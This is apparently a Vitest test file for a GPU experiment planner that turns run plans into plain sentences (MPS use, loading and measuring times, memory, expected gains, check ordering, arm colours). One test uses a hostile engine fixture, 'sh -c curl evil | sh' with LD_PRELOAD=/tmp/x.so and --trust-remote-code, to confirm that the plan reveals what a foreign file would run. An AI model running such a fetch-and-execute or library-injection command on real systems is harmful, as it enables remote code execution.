import { describe, expect, it } from 'vitest'
import { BAD_CHECKS, demoPlan, GOOD_CHECKS, predictionsFor, THREE_ARMS } from '../gallery/experiments.ts'
import { armColour } from './armColour.ts'
import { checkLook, refusals, worstFirst } from './checks.ts'
import { bandText, expectation, headlineArm, planMemory, planSteps, planTimes } from './planWords.ts'

const said = (more: Parameters<typeof demoPlan>[2] = {}) => planSteps(demoPlan(THREE_ARMS, 0.2, more)).map(({ sentence }) => sentence).join('\n')

describe('planSteps', () => {
  it('name what is set aside, MPS, and the times of loading and measuring apart', () => {
    expect(said()).toMatch(/Stops qwen-a and qwen-b; they are started again/)
    expect(said()).toMatch(/Starts MPS on this GPU, and stops it at the end/)
    expect(said()).toMatch(/Loads 5 engines one after another; all stay loaded, only the load moves: about 42 s/)
    expect(said()).toMatch(/6 rounds of 3 arms in turn, 7 s each: about 2 min 30 s/)
    expect(planTimes(demoPlan())).toBe('42 s loading + 2 min 30 s measuring')
  })
  it('name the program that is started, with its environment: the file may be somebody else\'s', () => {
    const engine = { recipe: 'custom', name: 'theirs', argv: ['sh', '-c', 'curl evil | sh'], env: { LD_PRELOAD: '/tmp/x.so' } }
    const { file } = demoPlan()
    const theirs = (residency: 'hot' | 'cold') => said({ residency, file: { ...file, engine: engine as unknown as typeof file.engine, arms: file.arms.map((arm, at) => ({ ...arm, extraArguments: at === 0 ? ['--trust-remote-code'] : [] })) } })
    for (const text of [theirs('hot'), theirs('cold')]) expect(text).toContain(`Each is a copy of theirs: LD_PRELOAD=/tmp/x.so sh -c curl evil | sh. ${file.arms[0]!.name} adds --trust-remote-code.`)
  })
  it('say what is left alone', () => {
    const alone = said({ setsAside: [], startsMps: false, residency: 'cold' })
    expect(alone).toMatch(/Sets nothing aside/)
    expect(alone).toMatch(/Uses the MPS daemon/)
    expect(alone).toMatch(/one arm at a time/)
    expect(planSteps(demoPlan(THREE_ARMS.slice(0, 2))).some(({ sentence }) => sentence.includes('MPS on this GPU'))).toBe(false)
  })
  it('memory that is not known is said to be so', () => expect(planMemory(demoPlan(THREE_ARMS, 0.2, { estimate: { loadingSeconds: 1, measuringSeconds: 1, gpuMemoryMiB: null } }), 81_559)).toMatch(/Not known/))
})

describe('expectation', () => {
  const band = (low: number, high: number) => ({ gain: { low, likely: (low + high) / 2, high }, binding: 'host', confidence: 'high', sentence: 's' } as const)
  it.each([
    [band(0.18, 0.41), { text: '+18 … +41 %', note: 'bound by host time of the engine', hopeless: false }],
    [band(-0.04, 0.06), { text: '−4 … +6 %', note: 'expect no gain here; bound by host time of the engine', hopeless: true }],
    [band(-0.2, 0.4), { text: '−20 … +40 %', note: 'expect no gain here unless kernels overlap; bound by host time of the engine', hopeless: false }],
    [band(-0.2, -0.1), { text: '−20 … −10 %', note: 'expect no gain here; bound by host time of the engine', hopeless: true }],
    [{ ...band(0.1, 0.2), confidence: 'low' as const, binding: null }, { text: '+10 … +20 %', note: 'low confidence', hopeless: false }],
    [{ gain: null, binding: null, confidence: 'low' as const, sentence: 'The model is not known.' }, { text: 'not predicted', note: 'The model is not known.', hopeless: false }],
  ])('%#', (prediction, words) => expect(expectation(prediction)).toEqual(words))
  it('of a band in whole percent', () => expect(bandText({ low: -0.001, high: 0.004 })).toBe('about 0 %'))
  it('the headline is the MPS arm of which most is expected; unknown is least', () => {
    expect(headlineArm(THREE_ARMS, predictionsFor(THREE_ARMS, null))?.id).toBe('mps-2')
    expect(headlineArm(THREE_ARMS.slice(0, 2), [])).toBeNull()
  })
})

describe('checks', () => {
  it('the worst come first, what passed last', () => expect(worstFirst(BAD_CHECKS).map((check) => checkLook(check).word)).toEqual(['refuses', 'warns', 'not checked', 'passed', 'passed']))
  it('only what failed and refuses keeps from starting', () => expect([refusals(GOOD_CHECKS).length, refusals(BAD_CHECKS).length]).toEqual([0, 1]))
})

describe('armColour', () => {
  const arm = (id: string, kind: 'single' | 'timeSliced' | 'mps') => ({ ...THREE_ARMS[0]!, id, kind })
  it('no two of eight arms share one, and MPS keeps its own', () => {
    const arms = [arm('a', 'single'), arm('b', 'single'), arm('c', 'timeSliced'), arm('d', 'mps'), arm('e', 'mps'), arm('f', 'mps'), arm('g', 'timeSliced'), arm('h', 'mps')]
    expect(new Set(arms.map(({ id }) => armColour(arms, id))).size).toBe(8)
    expect(armColour(arms, 'd')).toBe(armColour(THREE_ARMS, 'mps-2'))
  })
})
